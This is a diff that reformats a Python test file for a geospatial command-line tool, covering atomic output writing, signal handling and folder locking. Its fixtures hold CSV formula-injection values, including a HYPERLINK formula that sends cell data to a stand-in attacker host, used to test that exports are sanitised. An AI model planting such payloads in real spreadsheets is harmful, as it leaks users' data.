@@ -32,8 +32,15 @@ from lifecircle.io.outputs import (
 
 from .conftest import LAT0, LON0, assert_user_error, invoke, osm_grid
 
-HOSTILE_CELLS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+2", "-2+3", "@SUM(A1)",
-                 "\tTAB", "\rCR", "=1+1"]
+HOSTILE_CELLS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "+1+2",
+    "-2+3",
+    "@SUM(A1)",
+    "\tTAB",
+    "\rCR",
+    "=1+1",
+]
 
 
 # --------------------------------------------------------------------------- helpers
@@ -41,8 +48,11 @@ HOSTILE_CELLS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+2", "-2+3
 
 def snapshot(folder: Path) -> dict[str, str]:
     """Relative path -> sha256 of every file below ``folder`` (hidden ones included)."""
-    return {str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
-            for p in sorted(folder.rglob("*")) if p.is_file()}
+    return {
+        str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
+        for p in sorted(folder.rglob("*"))
+        if p.is_file()
+    }
 
 
 def temporaries(folder: Path) -> list[str]:
@@ -59,31 +69,57 @@ def tiny(tmp_path_factory) -> dict[str, Path]:
     (folder / "grid.osm").write_text(osm_grid(8), encoding="utf-8")
     (folder / "fac.csv").write_text(
         "lon,lat,category,name\n"
-        f"{LON0 + 0.0025},{LAT0 + 0.0025},kindergarten,\"=HYPERLINK(\"\"http://x\"\")\"\n"
-        f"{LON0 + 0.005},{LAT0 + 0.001},park,+park\n", encoding="utf-8")
+        f'{LON0 + 0.0025},{LAT0 + 0.0025},kindergarten,"=HYPERLINK(""http://x"")"\n'
+        f"{LON0 + 0.005},{LAT0 + 0.001},park,+park\n",
+        encoding="utf-8",
+    )
     step = 0.0035
-    boxes = [shapely.box(LON0 + i * step, LAT0 + j * step, LON0 + (i + 1) * step,
-                         LAT0 + (j + 1) * step) for j in range(2) for i in range(2)]
-    units = gpd.GeoDataFrame({
-        "unit_id": ["=1+1", "@SUM(A1)", "-3", "\tu4", "+D"],
-        "name": [*HOSTILE_CELLS[:4], "=district"],
-        "parent_id": ["+D", "+D", "+D", "+D", None],
-    }, geometry=[*boxes, shapely.union_all(boxes)], crs="EPSG:4326")
+    boxes = [
+        shapely.box(LON0 + i * step, LAT0 + j * step, LON0 + (i + 1) * step, LAT0 + (j + 1) * step)
+        for j in range(2)
+        for i in range(2)
+    ]
+    units = gpd.GeoDataFrame(
+        {
+            "unit_id": ["=1+1", "@SUM(A1)", "-3", "\tu4", "+D"],
+            "name": [*HOSTILE_CELLS[:4], "=district"],
+            "parent_id": ["+D", "+D", "+D", "+D", None],
+        },
+        geometry=[*boxes, shapely.union_all(boxes)],
+        crs="EPSG:4326",
+    )
     units.to_file(folder / "units.geojson", driver="GeoJSON")
-    return {"network": folder / "grid.osm", "facilities": folder / "fac.csv",
-            "units": folder / "units.geojson"}
+    return {
+        "network": folder / "grid.osm",
+        "facilities": folder / "fac.csv",
+        "units": folder / "units.geojson",
+    }
 
 
 def tiny_args(tiny: dict[str, Path], out: Path, *extra: object) -> list[object]:
-    return ["audit", "--network", tiny["network"], "--facilities", tiny["facilities"],
-            "--units", tiny["units"], "--keep-edge-units", "--out", out, *extra]
+    return [
+        "audit",
+        "--network",
+        tiny["network"],
+        "--facilities",
+        tiny["facilities"],
+        "--units",
+        tiny["units"],
+        "--keep-edge-units",
+        "--out",
+        out,
+        *extra,
+    ]
 
 
 def run_cli(args: list[object], **env: str) -> subprocess.Popen:
     """The CLI in a child process (for signals)."""
-    return subprocess.Popen([sys.executable, "-m", "lifecircle", *map(str, args)],
-                            stdout=subprocess.PIPE, stderr=subprocess.PIPE,
-                            env={**os.environ, **env})
+    return subprocess.Popen(
+        [sys.executable, "-m", "lifecircle", *map(str, args)],
+        stdout=subprocess.PIPE,
+        stderr=subprocess.PIPE,
+        env={**os.environ, **env},
+    )
 
 
 # --------------------------------------------------------------------------- cells
@@ -145,9 +181,14 @@ def test_publish_replaces_the_set_and_keeps_the_users_files(tmp_path):
     written = _publish(out, {"summary.json": "2", "gaps.csv": "2"})
     assert [p.name for p in written] == ["gaps.csv", "summary.json"]
     # the old map (of another run) does not stay next to the new set
-    assert snapshot(out) == snapshot_of({"summary.json": "2", "gaps.csv": "2",
-                                         "notes.txt": "mine",
-                                         "osm-download/streets.graphml": "g"})
+    assert snapshot(out) == snapshot_of(
+        {
+            "summary.json": "2",
+            "gaps.csv": "2",
+            "notes.txt": "mine",
+            "osm-download/streets.graphml": "g",
+        }
+    )
     assert temporaries(out) == []
 
 
@@ -204,14 +245,24 @@ def test_out_that_is_a_file_or_inside_an_input_is_refused(tmp_path):
     out.mkdir()
     with pytest.raises(OutputError, match="under the name of an output"):
         check_out(out, [out / "proposals.geojson"])
-    with OutputFolder(out, inputs=[out / "mine.geojson"]) as folder, \
-            pytest.raises(InputFileError, match="overwrite an input"):
+    with (
+        OutputFolder(out, inputs=[out / "mine.geojson"]) as folder,
+        pytest.raises(InputFileError, match="overwrite an input"),
+    ):
         folder.path("mine.geojson")
 
 
 def test_known_outputs_cover_the_contract():
-    assert {"access.parquet", "units.gpkg", "facilities.gpkg", "gaps.csv", "summary.json",
-            "map.html", "report.html", "proposals.geojson"} <= KNOWN_OUTPUTS
+    assert {
+        "access.parquet",
+        "units.gpkg",
+        "facilities.gpkg",
+        "gaps.csv",
+        "summary.json",
+        "map.html",
+        "report.html",
+        "proposals.geojson",
+    } <= KNOWN_OUTPUTS
 
 
 def test_json_writer_is_atomic(tmp_path):
@@ -235,8 +286,9 @@ def test_cli_out_is_a_file_exits_2_before_any_work(tiny, tmp_path):
 def test_cli_refuses_while_another_run_holds_the_folder(tiny, tmp_path):
     out = tmp_path / "out"
     with OutputFolder(out):
-        assert_user_error(invoke(tiny_args(tiny, out, "--no-map")),
-                          "in use by another lifecircle run")
+        assert_user_error(
+            invoke(tiny_args(tiny, out, "--no-map")), "in use by another lifecircle run"
+        )
 
 
 @pytest.mark.slow
@@ -244,12 +296,14 @@ def test_optimize_never_overwrites_its_candidates(tiny, tmp_path):
     out = tmp_path / "out"
     out.mkdir()
     cand = out / "proposals.geojson"
-    gpd.GeoDataFrame(geometry=[shapely.Point(LON0 + 0.004, LAT0 + 0.004)],
-                     crs="EPSG:4326").to_file(cand, driver="GeoJSON")
+    gpd.GeoDataFrame(geometry=[shapely.Point(LON0 + 0.004, LAT0 + 0.004)], crs="EPSG:4326").to_file(
+        cand, driver="GeoJSON"
+    )
     before = cand.read_bytes()
     args = tiny_args(tiny, out, "--no-map")
-    res = invoke(["optimize", *args[1:], "--category", "kindergarten", "--sites", "1",
-                  "--candidates", cand])
+    res = invoke(
+        ["optimize", *args[1:], "--category", "kindergarten", "--sites", "1", "--candidates", cand]
+    )
     assert_user_error(res, "proposals.geojson")
     assert cand.read_bytes() == before
 
@@ -290,8 +344,7 @@ def test_kill_9_at_any_point_leaves_one_complete_set(tiny, tmp_path, monkeypatch
 
 @pytest.mark.slow
 @pytest.mark.parametrize(("sig", "code"), [(signal.SIGTERM, 143), (signal.SIGINT, 130)])
-def test_sigterm_and_ctrl_c_leave_the_previous_set_and_no_temporaries(tiny, tmp_path, sig,
-                                                                       code):
+def test_sigterm_and_ctrl_c_leave_the_previous_set_and_no_temporaries(tiny, tmp_path, sig, code):
     out = tmp_path / "out"
     assert invoke(tiny_args(tiny, out, "--no-map")).exit_code == 0
     previous = snapshot(out)
@@ -314,8 +367,14 @@ def _mount_tmpfs(path: Path, size: str, *options: str) -> bool:
     if shutil.which("mount") is None or os.geteuid() != 0:
         return False
     opts = ",".join([f"size={size}", *options])
-    return subprocess.run(["mount", "-t", "tmpfs", "-o", opts, "tmpfs", str(path)],
-                          capture_output=True, check=False).returncode == 0
+    return (
+        subprocess.run(
+            ["mount", "-t", "tmpfs", "-o", opts, "tmpfs", str(path)],
+            capture_output=True,
+            check=False,
+        ).returncode
+        == 0
+    )
 
 
 def _umount(path: Path) -> None:
